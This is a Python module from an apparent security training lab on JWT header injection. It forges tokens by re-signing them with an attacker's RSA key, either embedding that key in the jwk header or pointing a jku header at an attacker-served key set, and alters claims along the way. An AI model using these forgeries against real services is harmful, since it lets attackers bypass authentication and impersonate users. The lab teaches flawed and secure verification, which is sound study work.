"""Lab 04a: JWT header injection: a forged token that brings its own key (``jwk``) or points at one (``jku``).

The attacker's RSA key and the key set its server hands out; the ⚠️ vulnerable verifier trusts them,
the secure one never does.
"""

from __future__ import annotations

import json

from sessionlab.web.tokens import (
    split_token,
)

ATTACKER_KID = "rs256-1"  # the victim's real kid: a verifier that trusts the header's key never looks it up


def attacker_key():
    """The attacker's own RSA key pair (nothing of the victim's)."""
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _public_jwk(private_key, kid: str = ATTACKER_KID) -> dict:
    import jwt

    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(private_key.public_key()))
    return {**jwk, "kid": kid, "alg": "RS256", "use": "sig"}


def attacker_jwks(private_key, kid: str = ATTACKER_KID) -> dict:
    """The key set (JWKS, RFC 7517 §5) the attacker serves for a ``jku`` header."""
    return {"keys": [_public_jwk(private_key, kid)]}


def _sign_rs256(header: dict, payload: dict, private_key) -> str:
    import jwt

    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
    return jwt.encode(payload, private_key, algorithm="RS256", headers={"typ": header.get("typ"), **extra})


def forge_jwk_header(token: str, private_key, **changes) -> str:
    """Sign with the attacker's key and embed its public half as the header's ``jwk`` (RFC 7515 §4.1.3)."""
    header, payload, _ = split_token(token)
    new_header = {**header, "alg": "RS256", "kid": ATTACKER_KID, "jwk": _public_jwk(private_key)}
    return _sign_rs256(new_header, {**payload, **changes}, private_key)


def forge_jku(token: str, private_key, jku_url: str, **changes) -> str:
    """Sign with the attacker's key; the header's ``jku`` (RFC 7515 §4.1.2) points at the attacker's key set."""
    header, payload, _ = split_token(token)
    new_header = {**header, "alg": "RS256", "kid": ATTACKER_KID, "jku": jku_url}
    return _sign_rs256(new_header, {**payload, **changes}, private_key)
